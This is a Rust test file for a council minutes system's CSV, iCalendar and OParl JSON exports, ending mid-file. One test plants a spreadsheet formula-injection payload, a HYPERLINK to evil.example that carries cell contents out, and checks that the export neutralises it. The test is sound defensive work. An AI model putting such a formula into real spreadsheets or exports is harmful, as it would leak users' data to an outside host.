//! Exports as their readers see them: the register CSV through a CSV parser, the calendar
//! through an iCalendar parser, the OParl-shaped JSON against the OParl 1.1 fields.

mod common;

use common::*;
use minutes_core::input::*;
use minutes_core::*;

fn with_awkward_text() -> (
    tempfile::TempDir,
    minutes_store::Store,
    minutes_store::demo::DemoIds,
    String,
) {
    let (dir, mut store, ids) = demo_store();
    let m = store
        .add_meeting(&NewMeeting {
            body_id: ids.scrutiny,
            kind: MeetingKind::Ordinary,
            date: d(2015, 7, 6),
            start_time: Some("17:30".into()),
            end_time: Some("19:00".into()),
            venue: "Siambr y Cyngor; Civic Offices, Holton Road, Barry – the long way round past the ŵyn in the fields by the coast".into(),
            mode: MeetingMode::Hybrid,
            joining_details: "Join on Teams: https://teams.example/abc".into(),
        })
        .unwrap();
    store
        .add_agenda_item(
            m.id,
            &NewAgendaItem::report("Ysgolion, \"cynradd\" a'r Gymraeg"),
        )
        .unwrap();
    let min = store
        .add_minute(m.id, None, "Welsh-medium education")
        .unwrap();
    let text = "the \"Cymraeg 2050\" targets, as amended, be endorsed;\nand a report on ysgolion cynradd follow".to_string();
    store
        .add_resolution(
            min.id,
            &NewResolution {
                keyword: None,
                text: text.clone(),
                reason: "To meet the duty, in full.".into(),
                conditional_on: None,
                vote: String::new(),
                reason_not_needed: false,
            },
        )
        .unwrap();
    (dir, store, ids, text)
}

#[test]
fn register_csv_round_trips_through_a_csv_parser() {
    let (_dir, store, ids, text) = with_awkward_text();
    let q = RegisterQuery {
        body_id: Some(ids.scrutiny),
        today: Some(d(2015, 3, 7)),
        ..Default::default()
    };
    let csv_text = store.register_csv(&q).unwrap();
    assert!(csv_text.ends_with("\r\n") && csv_text.contains(",\"the \"\"Cymraeg 2050\"\""));
    let mut reader = csv::ReaderBuilder::new().from_reader(csv_text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, minutes_store::export::REGISTER_CSV_HEADER);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let all = store.conn().query_row(
        "SELECT count(*) FROM resolution r JOIN meeting m ON m.id = r.meeting_id WHERE m.body_id = ?1",
        [ids.scrutiny.to_string()],
        |r| r.get::<_, i64>(0),
    ).unwrap();
    assert_eq!(
        rows.len() as i64,
        all,
        "every resolution of the body, no limit"
    );
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let ours = rows
        .iter()
        .find(|r| r[col("decision_text")] == text)
        .expect("the awkward text comes back exactly");
    assert_eq!(&ours[col("reason")], "To meet the duty, in full.");
    assert_eq!(&ours[col("meeting_date")], "2015-07-06");
    let referred = rows
        .iter()
        .find(|r| !r[col("referral_to")].is_empty())
        .unwrap();
    assert_eq!(
        (
            &referred[col("referral_to")],
            &referred[col("referral_status")],
            &referred[col("overdue")]
        ),
        ("Cabinet", "issued", "TRUE")
    );
}

#[test]
fn meetings_calendar_parses_and_keeps_the_rules_of_rfc_5545() {
    let (_dir, store, ids, _) = with_awkward_text();
    let stamp = chrono::DateTime::parse_from_rfc3339("2015-06-01T09:30:00Z")
        .unwrap()
        .with_timezone(&chrono::Utc);
    let ics = store.meetings_ics(ids.scrutiny, stamp).unwrap();
    for line in ics.split("\r\n") {
        assert!(line.len() <= 75, "folded at 75 octets: {line}");
    }
    assert!(
        !ics.replace("\r\n", "").contains('\n'),
        "every line ends CRLF"
    );
    let unfolded = icalendar::parser::unfold(&ics);
    let cal = icalendar::parser::read_calendar(&unfolded).unwrap();
    let events: Vec<_> = cal
        .components
        .iter()
        .filter(|c| c.name == "VEVENT")
        .collect();
    let meetings = store
        .list_meetings()
        .unwrap()
        .into_iter()
        .filter(|m| m.body_id == ids.scrutiny)
        .count();
    assert_eq!(events.len(), meetings);
    let prop = |c: &icalendar::parser::Component, name: &str| {
        c.properties
            .iter()
            .find(|p| p.name == name)
            .map(|p| p.val.as_str().to_string())
    };
    for e in &events {
        assert!(prop(e, "UID").unwrap().ends_with("@cofnod"));
        assert_eq!(prop(e, "DTSTAMP").unwrap(), "20150601T093000Z");
    }
    let july = events
        .iter()
        .find(|e| prop(e, "DTSTART").as_deref() == Some("20150706T173000"))
        .expect("July meeting");
    let dtstart = july
        .properties
        .iter()
        .find(|p| p.name == "DTSTART")
        .unwrap();
    assert!(dtstart
        .params
        .iter()
        .any(|p| p.key == "TZID" && p.val.as_ref().map(|v| v.as_str()) == Some("Europe/London")));
    assert_eq!(prop(july, "DTEND").unwrap(), "20150706T190000");
    assert_eq!(
        prop(july, "LOCATION").unwrap(),
        "Siambr y Cyngor; Civic Offices, Holton Road, Barry – the long way round past the ŵyn in the fields by the coast",
        "escaped in the file, the same words when read"
    );
    assert!(unfolded.contains("LOCATION:Siambr y Cyngor\\; Civic Offices\\, Holton Road"));
    assert!(prop(july, "DESCRIPTION")
        .unwrap()
        .contains("1. Ysgolion, \"cynradd\" a'r Gymraeg"));
    assert_eq!(
        prop(july, "SUMMARY").unwrap(),
        "Scrutiny Committee (Social Care and Health)"
    );
}

/// Properties of the OParl 1.1 schemas (oparl-1.1-schema/*.json) for the objects exported.
const OPARL: &[(&str, &[&str], &[&str])] = &[
    (
        "Meeting",
        &["id", "type"],
        &[
            "id",
            "type",
            "name",
            "meetingState",
            "cancelled",
            "start",
            "end",
            "location",
            "organization",
            "participant",
            "invitation",
            "resultsProtocol",
            "verbatimProtocol",
            "auxiliaryFile",
            "agendaItem",
            "license",
            "keyword",
            "created",
            "modified",
            "web",
            "deleted",
        ],
    ),
    (
        "AgendaItem",
        &["id", "type", "order"],
        &[
            "id",
            "type",
            "meeting",
            "number",
            "order",
            "name",
            "public",
            "consultation",
            "result",
            "resolutionText",
            "resolutionFile",
            "auxiliaryFile",
            "start",
            "end",
            "license",
            "keyword",
            "created",
            "modified",
            "web",
            "deleted",
        ],
    ),
    (
        "Organization",
        &["id", "type"],
        &[
            "id",
            "type",
            "body",
            "name",
            "membership",
            "meeting",
            "consultation",
            "shortName",
            "post",
            "subOrganizationOf",
            "organizationType",
            "classification",
            "startDate",
            "endDate",
            "website",
            "location",
            "externalBody",
            "memberCount",
            "votingMemberCount",
            "license",
            "keyword",
            "created",
            "modified",
            "web",
            "deleted",
        ],
    ),
    (
        "Person",
        &["id", "type"],
        &[
            "id",
            "type",
            "body",
            "name",
            "familyName",
            "givenName",
            "formOfAddress",
            "affix",
            "title",
            "gender",
            "phone",
            "email",
            "location",
            "locationObject",
            "status",
            "membership",
            "image",
            "life",
            "lifeSource",
            "license",
            "keyword",
            "created",
            "modified",
            "web",
            "deleted",
        ],
    ),
    (
        "Membership",
        &["id", "type"],
        &[
            "id",
            "type",
            "person",
            "organization",
            "role",
            "votingRight",
            "startDate",
            "endDate",
            "onBehalfOf",
            "license",
            "keyword",
            "created",
            "modified",
            "web",
            "deleted",
        ],
    ),
    (
        "Paper",
        &["id", "type"],
        &[
            "id",
            "type",
            "body",
            "name",
            "reference",
            "date",
            "paperType",
            "relatedPaper",
            "superordinatedPaper",
            "subordinatedPaper",
            "mainFile",
            "auxiliaryFile",
            "location",
            "originatorPerson",
            "underDirectionOf",
            "originatorOrganization",
            "consultation",
            "license",
            "keyword",
            "created",
            "modified",
            "web",
            "deleted",
        ],
    ),
];

#[test]
fn oparl_export_refuses_an_address_that_is_not_a_web_address() {
    let (_dir, store, _ids, _) = with_awkward_text();
    for bad in [
        "",
        "   ",
        "democracy.example.gov.uk",
        "https://",
        "ftp://x",
        "https://a b",
    ] {
        let err = store.oparl_export(bad, None).unwrap_err().to_string();
        assert!(
            err.contains("Published at") && err.contains("https://"),
            "{bad:?}: {err}"
        );
    }
    assert!(store.oparl_export(" http://localhost/oparl ", None).is_ok());
}

#[test]
fn oparl_export_has_the_required_fields_and_only_oparl_or_cofnod_properties() {
    let (_dir, store, _ids, _) = with_awkward_text();
    let v = store
        .oparl_export("https://democracy.example.gov.uk/oparl/v1.1/", None)
        .unwrap();
    for (kind, list) in [
        ("Meeting", "meeting"),
        ("AgendaItem", "agendaItem"),
        ("Organization", "organization"),
        ("Person", "person"),
        ("Membership", "membership"),
        ("Paper", "paper"),
    ] {
        let (_, required, props) = OPARL.iter().find(|(k, _, _)| *k == kind).unwrap();
        let objects = v[list].as_array().unwrap();
        assert!(!objects.is_empty(), "{kind} exported");
        for o in objects {
            let o = o.as_object().unwrap();
            for r in *required {
                assert!(o.contains_key(*r), "{kind} lacks {r}");
            }
            assert_eq!(o["type"], format!("https://schema.oparl.org/1.1/{kind}"));
            assert!(o["id"]
                .as_str()
                .unwrap()
                .starts_with("https://democracy.example.gov.uk/oparl/v1.1/"));
            for (k, val) in o {
                assert!(
                    props.contains(&k.as_str()) || k.starts_with("cofnod:"),
                    "{kind}.{k} is not OParl 1.1"
                );
                assert!(
                    !val.is_null() && val.as_str() != Some(""),
                    "{kind}.{k} is empty: omit it"
                );
            }
            if kind == "AgendaItem" {
                assert!(o["order"].is_u64());
            }
            if let Some(start) = o.get("start").and_then(|s| s.as_str()) {
                assert!(
                    start.len() == 25 && (start.ends_with("+01:00") || start.ends_with("+00:00")),
                    "{start}"
                );
            }
        }
    }
    let july = v["meeting"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["start"] == "2015-07-06T17:30:00+01:00");
    assert!(july.is_some(), "summer time is +01:00");
    let jan = v["meeting"].as_array().unwrap().iter().any(|m| {
        m["start"]
            .as_str()
            .is_some_and(|s| s.starts_with("2015-01-05T") && s.ends_with("+00:00"))
    });
    assert!(jan, "winter is +00:00");
    assert_eq!(v["paper"][0]["cofnod:referral"]["status"], "issued");
}

#[test]
fn tracker_lists_the_bodys_recommendations_of_the_period_with_their_status() {
    let (_dir, mut store, ids) = demo_store();
    let rows = store
        .tracker(ids.scrutiny, d(2014, 10, 1), d(2015, 3, 31), d(2015, 3, 7))
        .unwrap();
    assert_eq!(rows.len(), 1);
    let text = store
        .tracker_csv(ids.scrutiny, d(2014, 10, 1), d(2015, 3, 31), d(2015, 3, 7))
        .unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, minutes_store::export::TRACKER_CSV_HEADER);
    let row = reader.records().next().unwrap().unwrap();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    assert!(row[col("recommendation")].contains("be referred to Cabinet"));
    assert_eq!(
        (
            &row[col("referred_to")],
            &row[col("status")],
            &row[col("overdue")]
        ),
        ("Cabinet", "issued", "TRUE")
    );
    assert_eq!(&row[col("response_due")], "2015-03-06");
    // The quarter before it was sent holds nothing.
    assert!(store
        .tracker(ids.scrutiny, d(2014, 7, 1), d(2014, 9, 30), d(2015, 7, 1))
        .unwrap()
        .is_empty());
    // Still open, it is carried forward into the next quarter's tracker...
    let next = store
        .tracker(ids.scrutiny, d(2015, 4, 1), d(2015, 6, 30), d(2015, 7, 1))
        .unwrap();
    assert_eq!(next.len(), 1);
    assert_eq!(next[0].referral.id, ids.referral);
    // ...and, once closed, into the quarter it was closed in, and no further.
    store
        .advance_referral(
            ids.referral,
            &ReferralStep::Consider {
                outcome: ReferralOutcome::Accepted,
                response_text: "Cabinet noted the findings.".into(),
                meeting_id: None,
                minute_id: None,
            },
        )
        .unwrap();
    store
        .advance_referral(ids.referral, &ReferralStep::Close { on: d(2015, 5, 11) })
        .unwrap();
    let closing = store
        .tracker(ids.scrutiny, d(2015, 4, 1), d(2015, 6, 30), d(2015, 7, 1))
        .unwrap();
    assert_eq!(closing.len(), 1);
    assert!(store
        .tracker(ids.scrutiny, d(2015, 7, 1), d(2015, 9, 30), d(2015, 10, 1))
        .unwrap()
        .is_empty());
    // A period that ends before it starts is refused.
    assert!(store
        .tracker(ids.scrutiny, d(2015, 4, 1), d(2015, 1, 1), d(2015, 7, 1))
        .is_err());
}

/// A referral response typed as a spreadsheet formula reaches the tracker CSV as words: the
/// cell starts with `'` (OWASP's rule), so a spreadsheet never runs it; ordinary cells are as
/// typed.
#[test]
fn tracker_csv_cells_a_spreadsheet_would_run_are_neutralised() {
    let (_dir, mut store, ids) = demo_store();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    store
        .advance_referral(
            ids.referral,
            &ReferralStep::Consider {
                outcome: ReferralOutcome::Accepted,
                response_text: formula.into(),
                meeting_id: None,
                minute_id: None,
            },
        )
        .unwrap();
    let text = store
        .tracker_csv(ids.scrutiny, d(2014, 10, 1), d(2015, 3, 31), d(2015, 3, 7))
        .unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let row = reader.records().next().unwrap().unwrap();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    assert_eq!(&row[col("response")], format!("'{formula}"));
    assert_eq!(&row[col("referred_to")], "Cabinet");
    for cell in row.iter() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell}"
        );
    }
    for (raw, shown) in [
        ("+44 1446 700111", "'+44 1446 700111"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Cabinet = yes", "Cabinet = yes"),
        ("", ""),
    ] {
        assert_eq!(minutes_store::export::csv_cell(raw), shown);
    }
}

/// The calendar written by the `icalendar` crate: the same file for the same stamp (no
/// random ids, no clock), one Europe/London VTIMEZONE holding only what RFC 5545 allows there
/// (no UID or DTSTAMP), and no bare CR anywhere.
#[test]
fn meetings_calendar_is_the_same_each_time_with_one_clean_time_zone() {
    let (_dir, store, ids, _) = with_awkward_text();
    let stamp = chrono::DateTime::parse_from_rfc3339("2015-06-01T09:30:00Z")
        .unwrap()
        .with_timezone(&chrono::Utc);
    let ics = store.meetings_ics(ids.scrutiny, stamp).unwrap();
    assert_eq!(store.meetings_ics(ids.scrutiny, stamp).unwrap(), ics);
    let unfolded = icalendar::parser::unfold(&ics);
    let cal = icalendar::parser::read_calendar(&unfolded).unwrap();
    let zones: Vec<_> = cal
        .components
        .iter()
        .filter(|c| c.name == "VTIMEZONE")
        .collect();
    assert_eq!(zones.len(), 1);
    let names = |c: &icalendar::parser::Component| {
        c.properties
            .iter()
            .map(|p| p.name.as_str().to_string())
            .collect::<Vec<_>>()
    };
    assert_eq!(names(zones[0]), ["TZID"]);
    for part in &zones[0].components {
        let n = names(part);
        assert!(
            !n.iter().any(|k| k == "UID" || k == "DTSTAMP"),
            "{}: {n:?}",
            part.name
        );
    }
    assert!(ics.starts_with("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Cofnod//"));
    assert!(ics.ends_with("END:VCALENDAR\r\n"));
    assert!(!ics.replace("\r\n", "").contains('\r'), "no bare CR");
}

/// The register's CSV row of a Cabinet decision taken on a vote and called in, read back with
/// a CSV parser: the vote, the call-in's status and outcome, and the formula in its reason
/// neutralised.
#[test]
fn register_csv_carries_the_vote_and_the_call_in_of_a_cabinet_decision() {
    let f = called_in_council();
    let q = RegisterQuery {
        today: Some(d(2026, 1, 20)),
        ..Default::default()
    };
    let text = f.store.register_csv(&q).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, minutes_store::export::REGISTER_CSV_HEADER);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let row = |id: uuid::Uuid| {
        rows.iter()
            .find(|r| r[col("decision_id")] == id.to_string())
            .unwrap_or_else(|| panic!("{id} in the register"))
    };
    let cabinet = row(f.decision.id);
    assert_eq!(&cabinet[col("minute_number")], "C1");
    assert_eq!(
        &cabinet[col("vote")],
        "Carried (For 4, Against 1, Abstentions 0)"
    );
    assert_eq!(
        &cabinet[col("vote_record")],
        "(For 4, Against 1, Abstentions 0)"
    );
    assert_eq!(&cabinet[col("call_in_status")], "considered");
    assert_eq!(&cabinet[col("call_in_outcome")], "referred_back");
    assert_eq!(&cabinet[col("implemented_on")], "", "not implemented yet");
    assert_eq!(
        &cabinet[col("reason")],
        format!("'{HOSTILE_REASON}"),
        "the formula is shown as typed, never run"
    );
    let scrutiny = row(f.scrutiny_limb.id);
    assert_eq!(
        &scrutiny[col("vote")],
        "Carried on a recorded vote (For 3, Against 1, Abstentions 1)"
    );
    assert!(
        scrutiny[col("vote_record")].starts_with(
            "A recorded vote having been requested by Councillor B. Evans, the voting was as follows: For: Councillors"
        ),
        "{}",
        &scrutiny[col("vote_record")]
    );
    assert_eq!(
        &scrutiny[col("call_in_status")],
        "",
        "only a Cabinet decision is called in"
    );
    let plain = row(f.plain_limb.id);
    assert_eq!((&plain[col("vote")], &plain[col("vote_record")]), ("", ""));
}

#[test]
fn register_csv_gives_the_day_a_released_decision_was_implemented() {
    let mut f = called_in_council();
    let later = new_meeting(&mut f.store, f.cabinet.id, d(2026, 1, 26));
    let item = f
        .store
        .add_agenda_item(
            later.id,
            &NewAgendaItem::report("Library Strategy: call-in"),
        )
        .unwrap();
    let min = f
        .store
        .add_minute(later.id, Some(item.id), "Library Strategy: call-in")
        .unwrap();
    f.store
        .add_resolution(min.id, &limb("the decision be confirmed"))
        .unwrap();
    f.store
        .record_reconsideration(f.call_in.id, min.id)
        .unwrap();
    f.store
        .implement_decision(f.decision.id, d(2026, 1, 27))
        .unwrap();
    let text = f.store.register_csv(&RegisterQuery::default()).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = reader
        .records()
        .map(|r| r.unwrap())
        .find(|r| r[col("decision_id")] == f.decision.id.to_string())
        .unwrap();
    assert_eq!(&row[col("implemented_on")], "2026-01-27");
    assert_eq!(&row[col("call_in_outcome")], "referred_back");

    // The OParl paper of the call-in now has the reconsideration as an authoritative
    // consultation at Cabinet's item, once the minutes that record it are published.
    publish_drafts(&mut f.store);
    let v = f
        .store
        .oparl_export("https://democracy.example.gov.uk/oparl", None)
        .unwrap();
    let paper = v["paper"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["paperType"] == "Call-in")
        .unwrap();
    let again = &paper["consultation"][1];
    assert_eq!(again["role"], "Reconsideration");
    assert_eq!(again["authoritative"], true);
    assert!(again["agendaItem"]
        .as_str()
        .unwrap()
        .ends_with(&format!("/{}.json", item.id)));
    assert_eq!(paper["cofnod:callIn"]["implementedOn"], "2026-01-27");
}

/// The tracker of the scrutiny committee: the referral back to Cabinet carries the vote that
/// made it and the call-in it came from.
#[test]
fn tracker_csv_carries_the_vote_and_the_call_in_outcome() {
    let f = called_in_council();
    let text = f
        .store
        .tracker_csv(f.scrutiny.id, d(2026, 1, 1), d(2026, 3, 31), d(2026, 1, 20))
        .unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, minutes_store::export::TRACKER_CSV_HEADER);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 1);
    let r = &rows[0];
    assert_eq!(&r[col("referred_to")], "Cabinet");
    assert!(
        r[col("vote")].starts_with("Carried on a recorded vote (For 3, Against 1, Abstentions 1). A recorded vote having been requested by Councillor B. Evans"),
        "{}",
        &r[col("vote")]
    );
    assert_eq!(&r[col("called_in_minute")], "C1");
    assert_eq!(&r[col("call_in_status")], "considered");
    assert_eq!(&r[col("call_in_outcome")], "referred_back");
    assert_eq!(&r[col("implemented_date")], "");
}

fn agenda_item(v: &serde_json::Value, id: uuid::Uuid) -> &serde_json::Value {
    v["agendaItem"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["id"].as_str().unwrap().ends_with(&format!("/{id}.json")))
        .unwrap_or_else(|| panic!("agenda item {id}"))
}

/// OParl's `AgendaItem.result`: the vote in a few words, the call-in's outcome, the keyword
/// where no vote was taken, and nothing at all of an exempt item; the call-in as a Paper
/// with its scrutiny Consultation.
#[test]
fn oparl_results_votes_and_the_call_in_as_a_consultation() {
    let mut f = called_in_council();
    publish_drafts(&mut f.store);
    let v = f
        .store
        .oparl_export("https://democracy.example.gov.uk/oparl", None)
        .unwrap();
    let cabinet = agenda_item(&v, f.cabinet_item.id);
    assert_eq!(
        cabinet["result"],
        "Carried (For 4, Against 1, Abstentions 0); Called in: referred back to Cabinet"
    );
    assert_eq!(
        cabinet["cofnod:resultCy"],
        "Pasiwyd (O blaid 4, Yn erbyn 1, Yn ymatal 0); Galwyd i mewn: cyfeiriwyd yn ôl at y Cabinet"
    );
    let vote = &cabinet["cofnod:vote"][0];
    assert_eq!(
        (
            &vote["limb"],
            &vote["method"],
            &vote["for"],
            &vote["against"]
        ),
        (
            &serde_json::json!(1),
            &serde_json::json!("show_of_hands"),
            &serde_json::json!(4),
            &serde_json::json!(1)
        )
    );
    let paper_url = format!(
        "https://democracy.example.gov.uk/oparl/paper/{}.json",
        f.call_in.id
    );
    assert_eq!(cabinet["cofnod:calledIn"][0], paper_url.as_str());

    let scrutiny = agenda_item(&v, f.call_in.agenda_item_id.unwrap());
    assert_eq!(
        scrutiny["result"],
        "Carried on a recorded vote (For 3, Against 1, Abstentions 1); Called in: referred back to Cabinet"
    );
    let names = &scrutiny["cofnod:vote"][0];
    assert_eq!(names["method"], "recorded");
    assert_eq!(names["members"].as_array().unwrap().len(), 5);
    assert!(names["requestedBy"]
        .as_str()
        .unwrap()
        .ends_with(&format!("/{}.json", f.members[1].id)));
    assert!(
        names["outcomeCy"]
            .as_str()
            .unwrap()
            .starts_with("Gan fod y Cynghorydd B. Evans wedi gofyn"),
        "{}",
        names["outcomeCy"]
    );
    let consultation = scrutiny["consultation"].as_str().unwrap();

    let plain = agenda_item(&v, f.plain_item.id);
    assert_eq!(plain["result"], "Recommended", "no vote: the keyword");
    assert_eq!(plain["cofnod:resultCy"], "Argymhellwyd");
    assert!(plain.get("cofnod:vote").is_none());

    let exempt = agenda_item(&v, f.exempt_item.id);
    assert_eq!(exempt["public"], false);
    for key in ["result", "cofnod:resultCy", "cofnod:vote", "resolutionText"] {
        assert!(
            exempt.get(key).is_none(),
            "an exempt item's {key} is left out"
        );
    }
    let all = v.to_string();
    assert!(!all.contains("secret restructure"));

    let paper = v["paper"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["id"] == paper_url.as_str())
        .expect("the call-in as a paper");
    assert_eq!(paper["paperType"], "Call-in");
    assert_eq!(
        paper["name"],
        "Call-in: Library Strategy (Cabinet minute C1)"
    );
    assert_eq!(paper["originatorPerson"].as_array().unwrap().len(), 3);
    assert!(paper["relatedPaper"][0]
        .as_str()
        .unwrap()
        .ends_with(&format!("/{}.json", f.referral)));
    let c = &paper["consultation"][0];
    assert_eq!(
        c["id"], consultation,
        "the item and the paper share one consultation"
    );
    assert_eq!(c["type"], "https://schema.oparl.org/1.1/Consultation");
    assert_eq!(c["paper"], paper_url.as_str());
    assert_eq!(c["authoritative"], false);
    assert_eq!(c["role"], "Call-in");
    assert!(c["organization"][0]
        .as_str()
        .unwrap()
        .ends_with(&format!("/{}.json", f.scrutiny.id)));
    assert_eq!(paper["cofnod:callIn"]["outcome"], "referred_back");
    assert_eq!(
        paper["cofnod:callIn"]["concerns"],
        "Rural branches were not consulted"
    );
    assert_eq!(
        paper["consultation"].as_array().unwrap().len(),
        1,
        "not reconsidered yet"
    );
}

/// A call-in of a decision taken at an exempt item is left out of OParl altogether.
#[test]
fn oparl_leaves_out_the_call_in_of_an_exempt_decision() {
    let mut f = called_in_council();
    f.store
        .update_agenda_item(
            f.cabinet_item.id,
            &NewAgendaItem {
                part: ItemPart::Exempt,
                exempt_paragraphs: vec!["14".into()],
                public_interest: "The public interest in keeping it exempt outweighs disclosure."
                    .into(),
                ..NewAgendaItem::report("Library Strategy")
            },
        )
        .unwrap();
    let v = f
        .store
        .oparl_export("https://democracy.example.gov.uk/oparl", None)
        .unwrap();
    assert!(v["paper"]
        .as_array()
        .unwrap()
        .iter()
        .all(|p| p["paperType"] != "Call-in"));
    let cabinet = agenda_item(&v, f.cabinet_item.id);
    assert!(cabinet.get("result").is_none() && cabinet.get("cofnod:calledIn").is_none());
    assert!(!v.to_string().contains("rural communities"));
}

/// Publishes every draft still being written: OParl tells nothing of minutes not yet published.
fn publish_drafts(store: &mut minutes_store::Store) {
    for m in store.list_meetings().unwrap() {
        if m.minutes_status == MinutesStatus::Drafting {
            store.publish_draft(m.id).unwrap();
        }
    }
}

const BASE: &str = "https://democracy.example.gov.uk/oparl";

/// The OParl 1.1 schemas (tests/oparl-1.1-schema, unchanged from the specification), each
/// compiled with its custom `schema` keyword read as a `$ref` to the named file, so an
/// embedded object (a Meeting's AgendaItems, a Paper's Consultations, a Person's
/// Memberships, a Meeting's Location) is checked against its own schema too.
struct OparlSchemas {
    validators: std::collections::HashMap<String, jsonschema::Validator>,
}

impl OparlSchemas {
    fn load() -> Self {
        let dir = format!("{}/tests/oparl-1.1-schema", env!("CARGO_MANIFEST_DIR"));
        fn rewrite(v: &mut serde_json::Value) {
            match v {
                serde_json::Value::Object(m) => {
                    if m.get("type") == Some(&serde_json::json!("object")) {
                        if let Some(serde_json::Value::String(to)) = m.remove("schema") {
                            m.insert("$ref".into(), serde_json::json!(to));
                        }
                    }
                    m.values_mut().for_each(rewrite);
                }
                serde_json::Value::Array(a) => a.iter_mut().for_each(rewrite),
                _ => {}
            }
        }
        let mut schemas = Vec::new();
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.extension().is_some_and(|e| e == "json") {
                let name = path.file_name().unwrap().to_string_lossy().to_string();
                let mut schema: serde_json::Value =
                    serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
                rewrite(&mut schema);
                schema["$id"] = serde_json::json!(format!("https://schema.oparl.org/1.1/{name}"));
                schemas.push((name, schema));
            }
        }
        assert_eq!(schemas.len(), 12, "the twelve object schemas of OParl 1.1");
        let validators = schemas
            .iter()
            .map(|(name, schema)| {
                let mut options = jsonschema::options();
                for (other, s) in &schemas {
                    options = options.with_resource(
                        format!("https://schema.oparl.org/1.1/{other}"),
                        jsonschema::Resource::from_contents(s.clone()).unwrap(),
                    );
                }
                let kind = name.trim_end_matches(".json").to_string();
                (kind, options.build(schema).unwrap())
            })
            .collect();
        OparlSchemas { validators }
    }

    /// The errors of one object against the schema of its kind.
    fn errors(&self, kind: &str, o: &serde_json::Value) -> Vec<String> {
        let Some(v) = self.validators.get(kind) else {
            return vec![format!("no OParl 1.1 schema for {kind}")];
        };
        v.iter_errors(o)
            .map(|e| format!("{kind} {}: {e} at {}", o["id"], e.instance_path))
            .collect()
    }

    /// Walks the JSON: every object whose `type` is `https://schema.oparl.org/1.1/X`, at
    /// any depth, is checked against X.json. Gives how many were checked of each kind.
    fn check_all(
        &self,
        v: &serde_json::Value,
        counts: &mut std::collections::BTreeMap<String, usize>,
        errors: &mut Vec<String>,
    ) {
        match v {
            serde_json::Value::Object(m) => {
                if let Some(kind) = m
                    .get("type")
                    .and_then(|t| t.as_str())
                    .and_then(|t| t.strip_prefix("https://schema.oparl.org/1.1/"))
                {
                    *counts.entry(kind.to_string()).or_default() += 1;
                    errors.extend(self.errors(kind, v));
                }
                m.values().for_each(|x| self.check_all(x, counts, errors));
            }
            serde_json::Value::Array(a) => a.iter().for_each(|x| self.check_all(x, counts, errors)),
            _ => {}
        }
    }

    /// Every object of `v` valid; how many of each kind there were.
    fn assert_valid(&self, v: &serde_json::Value) -> std::collections::BTreeMap<String, usize> {
        let mut counts = Default::default();
        let mut errors = Vec::new();
        self.check_all(v, &mut counts, &mut errors);
        assert!(errors.is_empty(), "{} errors: {errors:#?}", errors.len());
        counts
    }
}

/// The site files as one JSON value (path → file), to walk and search.
fn site(store: &minutes_store::Store) -> (Vec<(String, serde_json::Value)>, serde_json::Value) {
    let files = store.oparl_files(BASE).unwrap();
    let all = serde_json::Value::Object(files.iter().cloned().collect());
    (files, all)
}

/// Every object of the one-file export and of the site's files, nested ones included, is
/// valid against the OParl 1.1 schema of its type: over the demo (as loaded, and with its
/// drafts published) and over the called-in council.
#[test]
fn oparl_export_and_site_files_validate_every_object_against_the_oparl_schemas() {
    let schemas = OparlSchemas::load();
    let (_dir, mut demo, _ids) = demo_store();
    for round in ["as loaded", "drafts published"] {
        let counts = schemas.assert_valid(&demo.oparl_export(BASE, None).unwrap());
        for kind in [
            "System",
            "Body",
            "Organization",
            "Person",
            "Membership",
            "Meeting",
            "AgendaItem",
            "Paper",
            "Location",
        ] {
            assert!(
                counts.get(kind).is_some_and(|n| *n > 0),
                "{round}: {kind} checked: {counts:?}"
            );
        }
        let (files, all) = site(&demo);
        let counts = schemas.assert_valid(&all);
        assert_eq!(counts["System"], 1);
        assert!(files.len() > 50, "{round}: {} files", files.len());
        publish_drafts(&mut demo);
    }
    let mut f = called_in_council();
    publish_drafts(&mut f.store);
    let counts = schemas.assert_valid(&f.store.oparl_export(BASE, None).unwrap());
    assert!(
        counts["Consultation"] >= 2,
        "the call-in's consultations: {counts:?}"
    );
    let (_, all) = site(&f.store);
    let counts = schemas.assert_valid(&all);
    assert!(counts["Consultation"] >= 2, "{counts:?}");
    // One body's export validates too.
    schemas.assert_valid(&f.store.oparl_export(BASE, Some(f.scrutiny.id)).unwrap());
}

/// The schemas are really applied: a result given as a number, a Body without its meeting
/// list, a Meeting whose embedded agenda item has no `order` are each refused.
#[test]
